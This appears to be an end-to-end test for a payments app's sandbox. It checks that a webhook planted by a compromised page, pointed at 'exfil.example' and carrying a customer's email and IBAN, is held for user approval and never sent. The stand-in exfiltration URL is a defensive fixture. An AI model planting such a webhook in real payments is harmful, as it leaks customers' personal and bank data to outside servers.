// Issue 45 item 1, as the agent meets it: a compromised page creates a test payment on the built-in
// Sandbox whose webhookUrl carries a customer's data to someone else's server (a name that resolves
// to ::1, where a counting shop listens). When the payment is paid, main asks the person once about
// that host; they choose Cancel (the default), nothing arrives, and the payment's timeline in the
// built renderer says the webhook was not sent because the host was not allowed.
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { completeCheckout } from '../../src/sandbox'
import { emptyDraftContent } from '../../src/shared/order-builder'
import { startCountingShop, tableResolver, type CountingShop } from '../helpers/counting-shop'
import { present } from '../helpers/present'
import { startHarness, type Harness } from './harness'

let h: Harness
let shop: CountingShop
const resolver = tableResolver({ 'exfil.example': ['::1'] })

beforeAll(async () => {
  shop = await startCountingShop()
  h = await startHarness({
    name: 'sandbox-webhooks',
    deps: { sandboxOptions: { seedPayments: 0, resolveWebhookHost: resolver } },
  })
  await h.page.getByTestId('home-screen').waitFor()
})

afterAll(async () => {
  await h?.close()
  await shop?.close()
})

const text = async (testId: string) => present(await h.page.getByTestId(testId).textContent())

describe('the built-in Sandbox’s webhooks (issue 45 item 1)', () => {
  it('a page’s webhook to a host nobody allowed: one question, Cancel, nothing sent, and the timeline says why', async () => {
    const webhookUrl = `http://exfil.example:${shop.port}/c?d=jan.jansen@example.com;NL91ABNA0417164300`
    const content = {
      ...emptyDraftContent('payment'),
      description: 'Forged',
      paymentAmount: '10.00',
      redirectUrl: 'https://shop.example.org/return',
      webhookUrl,
    }
    const created = await h.page.evaluate(async (content) => {
      const draft = await window.paydesk.drafts.save({ content })
      if (!draft.ok) return null
      const reply = await window.paydesk.payments.create({ draftId: draft.value.id })
      return reply.ok && reply.value.ok
        ? { id: reply.value.payment.id, checkout: reply.value.payment._links.checkout?.href ?? '' }
        : null
    }, content)
    const { id, checkout } = present(created)
    await completeCheckout(checkout, 'paid')
    await expect.poll(() => h.questions.filter((q) => q.kind === 'sandbox-webhook').length).toBe(1)
    // Open it as the agent would: its id in the search box opens it directly.
    await h.page.keyboard.press('Control+k')
    await h.page.getByTestId('search-input').fill(id)
    await h.page.getByTestId('search-direct').click()
    await h.page.getByTestId('payment-timeline').waitFor()
    await expect
      .poll(async () => {
        await h.page.getByTestId('detail-refresh').click()
        return text('payment-timeline')
      })
      .toMatch(/Webhook not sent: host not allowed\. The Sandbox calls exfil\.example only after you allow it/)
    const [question] = h.questions.filter((q) => q.kind === 'sandbox-webhook')
    expect(question?.buttons).toEqual(['Cancel', 'Call exfil.example'])
    expect(question?.defaultId).toBe(0)
    expect(question?.detail).toContain(webhookUrl)
    expect(shop.calls).toEqual([])
    expect(resolver.lookups).toEqual([])
    await h.screenshot('webhook-host-not-allowed')
  })
})
